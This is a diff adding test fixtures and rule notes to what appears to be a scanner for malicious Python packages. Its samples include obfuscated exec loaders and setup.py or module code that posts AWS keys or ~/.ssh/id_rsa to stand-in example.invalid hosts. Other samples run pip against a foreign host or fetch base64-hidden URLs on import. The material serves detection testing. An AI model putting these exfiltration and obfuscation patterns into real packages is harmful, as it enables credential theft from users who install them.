@@ -193,6 +193,10 @@ SPECS: dict[str, Spec] = {
     "PV407": Spec(S.HIGH, note=(
         "fire: a run-time function runs a program and posts to a raw public IP (a string only). "
         "quiet: the same with a named host.")),
+    "PV408": Spec(S.HIGH, note=(
+        "fire: urlopen of a base64-decoded URL at module level of the package __init__ (import "
+        "time: high). quiet: an API client that uploads base64-decoded content to a plain URL "
+        "and decodes a response.")),
     "PV501": Spec(S.HIGH, note=(
         "fire: winreg.SetValueEx under CurrentVersion\\Run. quiet: printed instructions naming "
         "~/.bashrc (no write, no process), cron expressions, a STARTUP_TIMEOUT constant.")),
@@ -220,6 +224,10 @@ SPECS: dict[str, Spec] = {
     "PV607": Spec(S.HIGH, note=(
         "fire: a base64 'MZ' header (zero bytes after it) written to helper.exe at module level "
         "of the package __init__. quiet: a base64 PNG icon written to disk and a hex vector.")),
+    "PV608": Spec(S.HIGH, note=(
+        "fire: eval of a hex-escaped 'eval', then eval('__import__(\\'base64\\')') and "
+        "eval('exec') through it, running print(1). quiet: eval of arithmetic and of a dotted "
+        "type name, getattr(builtins, 'print').")),
     "PV701": Spec(S.HIGH, package_level=True, build_fire=_build_pv701_fire,
                   build_quiet=_build_pv701_quiet, note=(
         "fire (built sdist): an ELF named logo.png (disguised) and an extension-less ELF "
@@ -583,6 +591,84 @@ SEVERITY_PATHS = {
         "    fh.write(CODE)\n"
         "subprocess.Popen(['python3', '/tmp/x.py'])\n")},
         "setup.py", 10, S.CRITICAL, "a script held in a module constant, written and started"),
+    "pv201-built-with-plus-equals-then-decoded": SevPath("PV201", {
+        "PKG-INFO": _PKG_INFO, "mypkg/_impl.py": (
+            "import base64\n"
+            "import zlib\n"
+            "\n"
+            "def load():\n"
+            "    z = ''\n"
+            "    z += 'eJwrKMrMK9EwVNTkAgAQ'\n"
+            "    z += 'jwMQ'\n"
+            "    z = zlib.decompress(base64.b64decode(z))\n"
+            "    exec(z)\n")},
+        "mypkg/_impl.py", 9, S.HIGH, "a name built with +=, decoded, then executed"),
+    "pv201-xor-loop": SevPath("PV201", {
+        "PKG-INFO": _PKG_INFO, "mypkg/_impl.py": (
+            "KEY = '3141592'\n"
+            "BLOB = 'CG@@\\x03\\x1d\\x1a'\n"
+            "out = ''\n"
+            "for i, ch in enumerate(BLOB):\n"
+            "    out += chr(ord(ch) ^ ord(KEY[i % len(KEY)]))\n"
+            "eval(compile(out, '<string>', 'exec'))\n")},
+        "mypkg/_impl.py", 6, S.HIGH, "a hand-written XOR decoder feeding compile and eval"),
+    "pv201-substitution-alphabet": SevPath("PV201", {
+        "PKG-INFO": _PKG_INFO, "mypkg/_impl.py": (
+            "import string\n"
+            "\n"
+            "A = string.ascii_letters\n"
+            "R = A[::-1]\n"
+            "exec(''.join([R[A.index(c)] if c in A else c for c in 'KIRMG(1)']))\n")},
+        "mypkg/_impl.py", 5, S.HIGH, "an alphabet substitution through str.index"),
+    "pv201-through-evaluated-names": SevPath("PV201", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__main__.py": (
+            "_e = eval('eval')\n"
+            "_c = _e('compile')\n"
+            "_x = _e(_c('exec', '<s>', 'eval'))\n"
+            "_m = _e(\"__import__('codecs')\")\n"
+            "_x(_m.decode('cHJpbnQoMSk=', 'base64'))\n")},
+        "mypkg/__main__.py", 5, S.HIGH, "exec and the decoder reached through eval'd names"),
+    "pv408-run-time": SevPath("PV408", {
+        "PKG-INFO": _PKG_INFO, "mypkg/client.py": (
+            "import base64\n"
+            "import requests\n"
+            "\n"
+            "def send(access_key, secret_key):\n"
+            "    url = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYXdz').decode()\n"
+            "    requests.post(url=url, json={'ak': access_key, 'sk': secret_key})\n")},
+        "mypkg/client.py", 6, S.MEDIUM, "a hidden address in a function nothing calls on load"),
+    "pv102-pip-from-a-foreign-host": SevPath("PV102", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
+            "import os\n"
+            "import sys\n"
+            "\n"
+            "os.system(f'{sys.executable} -m pip install '\n"
+            "          'https://files.example.invalid/packages/colorama-0.4.6.tar.gz')\n")},
+        "mypkg/__init__.py", 4, S.HIGH, "pip fetching from a host that is not PyPI"),
+    "pv603-protector-in-setup-py": SevPath("PV603", {"setup.py": (
+        "from pytransform import pyarmor_runtime\n"
+        "pyarmor_runtime()\n"
+        "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52')\n")},
+        "setup.py", 1, S.HIGH, "a commercial protector hiding setup.py itself"),
+    "pv304-ssh-key-path-joined-from-parts": SevPath("PV304", {"setup.py": (
+        "import os\n"
+        "import requests\n"
+        "\n"
+        "home = os.path.expanduser('~')\n"
+        "with open(os.path.join(home, '.ssh', 'id_rsa')) as fh:\n"
+        "    requests.post('https://example.invalid/k', data=fh.read())\n")},
+        "setup.py", 5, S.HIGH, "the key path given to os.path.join in parts, sent at install"),
+    "pv408-src-layout-py-module": SevPath("PV408", {"setup.py": (
+        "from setuptools import setup\n"
+        "\n"
+        "setup(name='fixture-sev', version='1.0', package_dir={'': 'src'},\n"
+        "      py_modules=['tool'])\n"),
+        "src/tool.py": (
+            "import base64\n"
+            "import urllib.request\n"
+            "\n"
+            "urllib.request.urlopen(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYw=='))\n")},
+        "src/tool.py", 4, S.HIGH, "a py_modules module of a src/ layout runs on import"),
     "pv302-token-check-alone": SevPath("PV302", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
             "import requests\n"
@@ -738,6 +824,29 @@ REGRESSIONS = {
         "exec(data)\n"
         "exec('x = 1')\n")}, 3,
         "PV202 reports the computed exec(data) on line 3, not the literal exec on line 4"),
+    "pv201-name-decoded-in-another-function-is-quiet": Case("PV201", {"mypkg/tool.py": (
+        "import base64\n"
+        "\n"
+        "def decode(blob):\n"
+        "    code = base64.b64decode(blob)\n"
+        "    return code\n"
+        "\n"
+        "def run(code):\n"
+        "    exec(code)\n")}, None,
+        "what a name is assigned in one function says nothing of a parameter of the same name "
+        "in another: the decoded-data check reads the exec call's own scope only"),
+    "pv201-pyc-cache-of-an-import-hook-is-quiet": Case("PV201", {"mypkg/hook.py": (
+        "import marshal\n"
+        "\n"
+        "def load(mod, cachename, source, path):\n"
+        "    try:\n"
+        "        with open(cachename, 'rb') as f:\n"
+        "            code = marshal.loads(f.read())\n"
+        "    except OSError:\n"
+        "        code = compile(source, path, 'exec')\n"
+        "    exec(code, mod.__dict__)\n")}, None,
+        "an import hook that loads its .pyc cache with marshal.loads into a name, then execs it "
+        "(future's past.translation), was 'exec of decoded data' once names were followed"),
     "pv802-reports-the-first-pth-line": Case("PV802", {"x.pth": (
         "import sys; sys.stdout.flush()\n"
         "import os; os.getcwd()\n")}, 1,
